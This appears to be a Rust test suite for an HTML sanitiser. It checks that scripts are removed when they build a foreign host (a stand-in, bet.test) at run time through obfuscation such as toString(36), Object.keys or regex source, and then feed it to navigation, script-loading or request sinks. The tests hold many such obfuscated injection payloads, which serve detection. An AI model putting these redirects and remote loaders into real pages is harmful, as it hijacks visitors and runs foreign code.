//! Attack suite for foreign hosts built at run time without a recognisable decoder (red
//! team #30; threats B1, B3, B7): the URL is assembled from pieces that constant folding
//! cannot resolve (`(n).toString(36)`, `Object.keys({…}).join('')`, a regex's `.source`,
//! an array index, `String.raw`, template placeholders, `new URL(x, y)`, the page's text)
//! and reaches a sink that navigates or makes a request: the location and its members,
//! `window.open`, an element's `src` or `setAttribute('src'|'href'|'action')`, `import()`,
//! a form or link target that the script fires, `sendBeacon`, `fetch`, XHR, a WebSocket,
//! and markup sinks (`document.write`, `innerHTML`, `outerHTML`, `insertAdjacentHTML`)
//! whose URL attributes are computed. Provenance decides: a target whose origin the
//! analysis cannot prove same-site goes (fail closed). Every piece is crossed with every
//! sink. The site's ordinary code (same-site prefixes, the element's own value, a lazy
//! loader reading the page's `data-src`, allowed analytics) keeps its bytes.

use crate::common;

use common::rewrite::{clean, clean_turn, site};

/// Expressions whose value is `https://bet.test/…` at run time, with no foreign literal
/// and no decoder call the analysis recognises.
const PIECES: &[&str] = &[
    "'https://'+(14967).toString(36)+'.test/'",
    "'https://'+Object.keys({bet:1,test:2}).join('.')+'/'",
    "'https:'+'//'+/bet.test/.source+'/'",
    "'//'+['x','bet.test'][n]+'/p'",
    "String.raw`https://${(14967).toString(36)}.test/`",
    "`https://${k}.test/`",
    "new URL('/go','https://'+(14967).toString(36)+'.test').href",
    "'https://'+document.querySelector('#cfg').dataset.h+'/'",
    "document.getElementById('n').textContent",
    "'https://'+[98,101,116].map(function(c){return 'abcdefghijklmnopqrstuvwxyz'[c-97]}).join('')+'.test/'",
    "u",
    "cfg.target",
];

/// Sinks: `@U` is the URL expression.
const SINKS: &[&str] = &[
    "location.href=@U",
    "location=@U",
    "window.location.assign(@U)",
    "top.location.replace(@U)",
    "location.host=@U",
    "window.open(@U)",
    "window.open(@U,'_blank')",
    "var s=document.createElement('script');s.src=@U;document.head.appendChild(s)",
    "var f=document.createElement('iframe');f.src=@U;document.body.appendChild(f)",
    "new Image().src=@U",
    "var e=document.createElement('embed');e.src=@U;document.body.appendChild(e)",
    "var i=document.createElement('img');i.setAttribute('src',@U);document.body.appendChild(i)",
    "import(@U)",
    "var f=document.forms[0];f.action=@U;f.submit()",
    "var f=document.createElement('form');f.setAttribute('action',@U);document.body.appendChild(f);f.requestSubmit()",
    "var a=document.createElement('a');a.href=@U;document.body.appendChild(a);a.click()",
    "var a=document.createElement('a');a.setAttribute('href',@U);a.dispatchEvent(new MouseEvent('click'))",
    "navigator.sendBeacon(@U,'x')",
    "fetch(@U)",
    "var x=new XMLHttpRequest();x.open('GET',@U);x.send()",
    "new WebSocket(@U)",
    "document.write('<iframe src=\"'+@U+'\"></iframe>')",
    "document.querySelector('base').href=@U",
    "var l=document.createElement('link');l.rel='stylesheet';l.href=@U;document.head.appendChild(l)",
    "document.body.insertAdjacentHTML('beforeend','<img src=\"'+@U+'\">')",
    "document.getElementById('m').innerHTML='<a href=\"'+@U+'\" id=go>x</a>';document.getElementById('go').click()",
    "document.getElementById('m').outerHTML='<iframe src='+@U+'></iframe>'",
];

/// The setup before the sink: names the pieces use.
const SETUP: &str = "var n=1,k=(14967).toString(36),u=Object.keys({bet:1}).join('')+'.test',cfg={target:'https://'+k+'.test/'};u='https://'+u+'/';";

fn variants() -> Vec<String> {
    let mut out = Vec::new();
    for sink in SINKS {
        for piece in PIECES {
            out.push(format!("{SETUP}{}", sink.replace("@U", piece)));
        }
    }
    out
}

fn removed(code: &str, n: usize) -> bool {
    let site = site("");
    let page = format!("<p>Tin</p><script>{code}</script><p>Hết</p>");
    let (out, events) = clean_turn(&site, &page, n);
    out == "<p>Tin</p><p>Hết</p>" && events.iter().any(|e| e.rule.starts_with("script."))
}

#[test]
fn run_time_built_hosts_reaching_a_sink_are_removed() {
    let missed: Vec<String> = variants()
        .into_iter()
        .enumerate()
        .filter(|(n, c)| !removed(c, *n))
        .map(|(_, c)| c)
        .collect();
    assert!(
        missed.is_empty(),
        "{} left in place:\n{}",
        missed.len(),
        missed.join("\n")
    );
}

#[test]
fn handlers_that_build_a_host_are_removed() {
    let site = site("");
    for code in [
        "location.href='https://'+(14967).toString(36)+'.test/'",
        "window.open(String.raw`https://${(14967).toString(36)}.test/`)",
        "this.form.action='//'+Object.keys({bet:1}).join('')+'.test/';this.form.submit()",
        "fetch(document.getElementById('n').textContent)",
    ] {
        let page = format!("<button onclick=\"{code}\">Xem</button>");
        let (out, events) = clean(&site, &page);
        assert_eq!(out, "<button>Xem</button>", "left in place: {code}");
        assert!(events.iter().any(|e| e.rule.starts_with("script.")));
    }
}

#[test]
fn the_sites_own_navigation_and_requests_keep_their_bytes() {
    let site = site("");
    for code in [
        "document.getElementById('f').onsubmit=function(e){e.preventDefault();var q=document.getElementById('q').value;location.href='/search?q='+encodeURIComponent(q)}",
        "document.querySelectorAll('img[data-src]').forEach(function(img){img.src=img.dataset.src})",
        "var imgs=document.querySelectorAll('img.lazy');for(var i=0;i<imgs.length;i++){imgs[i].src=imgs[i].getAttribute('data-src')}",
        "fetch('/api/tin-moi?page='+p).then(function(r){return r.json()}).then(render)",
        "var x=new XMLHttpRequest();x.open('GET','/api/x?id='+encodeURIComponent(id));x.send()",
        "navigator.sendBeacon('/thong-ke',JSON.stringify({p:location.pathname}))",
        "var s=document.createElement('script');s.async=true;s.src='https://www.googletagmanager.com/gtag/js?id='+gid;document.head.appendChild(s)",
        "new Image().src='https://www.google-analytics.com/collect?v=1&dp='+encodeURIComponent(location.pathname)",
        "window.open('/in-an?id='+id,'_blank','width=600')",
        "var a=document.createElement('a');a.href='/tai-lieu/'+encodeURIComponent(name);a.download=name;a.click()",
        "document.getElementById('list').innerHTML='<a href=\"/tin-tuc/'+id+'\">'+title+'</a>'",
        "document.getElementById('list').insertAdjacentHTML('beforeend','<li>'+item.title+'</li>')",
        "document.getElementById('out').innerHTML=html",
        "var w=new WebSocket('wss://'+location.host+'/live')",
        "fetch(location.pathname+'?partial=1').then(function(r){return r.text()})",
        "var img=document.getElementById('banner');img.src='/images/banner-'+(new Date().getMonth()+1)+'.jpg'",
        "fetch('./data.json')",
        "fetch('tin-moi.json')",
        "document.querySelectorAll('a.tab').forEach(function(a){a.href='#'+a.dataset.tab})",
        "links.forEach(function(it){var a=document.createElement('a');a.href=it.url;a.textContent=it.title;list.appendChild(a)})",
    ] {
        let page = format!("<p>x</p><script>{code}</script>");
        let (out, events) = clean(&site, &page);
        assert_eq!(out, page, "changed: {code}: {events:?}");
    }
}

#[test]
fn a_select_of_same_site_pages_keeps_its_bytes() {
    let site = site("");
    let page = "<select onchange=\"location.href=this.value\"><option value=\"/vi/\">Tiếng Việt</option><option value=\"/en/\">English</option></select>";
    let (out, events) = clean(&site, page);
    assert_eq!(out, page, "{events:?}");
}
